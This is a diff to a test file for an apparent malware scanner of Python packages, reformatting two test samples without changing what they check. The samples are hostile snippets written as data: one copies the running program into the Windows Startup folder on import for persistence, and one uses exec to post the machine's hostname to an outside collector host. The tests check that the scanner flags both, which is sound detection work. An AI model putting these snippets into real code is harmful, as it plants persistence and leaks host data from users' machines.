@@ -455,7 +455,8 @@ def test_copying_into_the_startup_folder_on_import_is_persistence() -> None:
     src = r"""
         import os, shutil, sys
 
-        target = os.path.join(os.getenv("APPDATA"), "Microsoft\\Windows\\Start Menu\\Programs\\Startup")
+        appdata = os.getenv("APPDATA")
+        target = os.path.join(appdata, "Microsoft\\Windows\\Start Menu\\Programs\\Startup")
         shutil.copy(sys.argv[0], target)
     """
     assert "intent.persistence" in rules(scan({"demo/__init__.py": src}), "critical")
@@ -504,7 +505,8 @@ def test_config_written_then_git_run_is_not_write_execute() -> None:
 
 def test_literal_code_given_to_exec_is_analysed() -> None:
     src = """
-        exec("import requests,socket;requests.post('https://c.collector-host.net/h', data=socket.gethostname())")
+        exec("import requests,socket;"
+             "requests.post('https://c.collector-host.net/h', data=socket.gethostname())")
     """
     assert "intent.exfiltration" in rules(scan({"demo/__init__.py": src}), "critical")
 
